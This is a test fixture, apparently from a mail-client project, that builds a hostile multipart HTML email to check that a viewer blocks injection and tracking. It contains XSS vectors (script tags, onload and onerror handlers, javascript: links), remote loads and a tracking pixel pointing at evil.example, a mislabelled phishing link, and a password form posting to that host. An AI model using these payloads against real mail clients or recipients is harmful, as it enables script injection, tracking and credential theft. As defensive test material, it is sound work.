/** An image that is one, for `cid:` links. */
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** Every way into the window that a mail is known to try; each would set `pwned` or call its own server. */
const html = `<html><head>
<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b.png) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c.css">
</head><body onload="parent.pwned = 1"><h1>You won</h1>
<script>parent.pwned = 1</script><img src="x" onerror="parent.pwned = 1"><svg onload="parent.pwned = 1"></svg>
<img src="https://evil.example/track.png" width="1" height="1">
<p style="background-image: url('https://evil.example/d.png')">Sign in at
<a href="https://evil.example/phish">https://bank.example/login</a> or <a href="javascript:parent.pwned = 1">here</a>.</p>
<form action="https://evil.example/form"><input name="password" autofocus><button>Go on</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>
<p>Our logo: <img src="cid:logo@evil.example" alt="logo"></p>
</body></html>`

export const hostileMail = [
  'From: Mallory Hart <mallory@evil.example>',
  'To: help@shop.test',
  'Subject: You won a prize',
  'Date: Mon, 02 Mar 2026 10:00:00 +0000',
  'Message-ID: <hostile@evil.example>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/related; boundary=cut',
  '',
  '--cut',
  'Content-Type: text/html; charset=utf-8',
  '',
  html,
  '--cut',
  'Content-Type: image/png; name=logo.png',
  'Content-ID: <logo@evil.example>',
  'Content-Disposition: inline; filename=logo.png',
  'Content-Transfer-Encoding: base64',
  '',
  pixel,
  '--cut--',
  '',
].join('\r\n')
